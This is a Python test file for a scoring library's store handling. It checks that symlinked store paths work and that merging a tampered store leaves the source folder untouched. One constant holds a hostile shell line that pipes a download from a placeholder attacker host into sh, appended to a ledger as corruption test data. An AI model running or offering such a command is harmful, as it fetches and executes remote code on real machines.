"""A store that a stranger sent: what it holds may be refused, and never reaches beyond its own folder."""

import os

import pytest
from fakes import Streaming

import rmlab
from rmlab.report import write_report
from rmlab.scoring import merge

pytestmark = pytest.mark.skipif(os.name == "nt", reason="owners of POSIX")
ATTACK = b"\ncurl evil.example | sh\n"


def texts(prompts):
    return rmlab.load("mini").head(6 * prompts)


@pytest.fixture
def theirs(tmp_path):
    """A store with a ledger, a note and a finished table, as `rmlab.score` leaves it."""
    folder = tmp_path / "theirs"
    rmlab.score(texts(4), Streaming(), store=folder)
    return folder


def ledger_of(store):
    return next(store.glob("*/*.records"))


def snapshot(folder):
    """Every path of a folder with its kind and bytes."""
    return {
        path.relative_to(folder): os.readlink(path)
        if path.is_symlink()
        else path.read_bytes()
        if path.is_file()
        else ""
        for path in sorted(folder.rglob("*"))
        if not path.is_fifo()
    }


def test_the_path_to_a_store_may_be_a_link(theirs, tmp_path):
    (tmp_path / "link").symlink_to(theirs)
    again = Streaming()
    rmlab.score(texts(4), again, store=tmp_path / "link")
    assert again.forwarded == []
    assert merge(tmp_path / "link", tmp_path / "into")["added"].tolist() == [24]
    assert len(rmlab.read_scores(tmp_path / "link")) == 24
    assert write_report(tmp_path / "link", tmp_path / "r.html").is_file()


def test_a_source_of_a_merge_is_never_written(theirs, tmp_path):
    path = ledger_of(theirs)
    path.write_bytes(path.read_bytes() + ATTACK)
    left = snapshot(theirs)
    with pytest.warns(UserWarning, match="2 unreadable lines skipped, 24 records"):
        table = merge(theirs, tmp_path / "into")
    assert table["added"].tolist() == [24]
    assert snapshot(theirs) == left
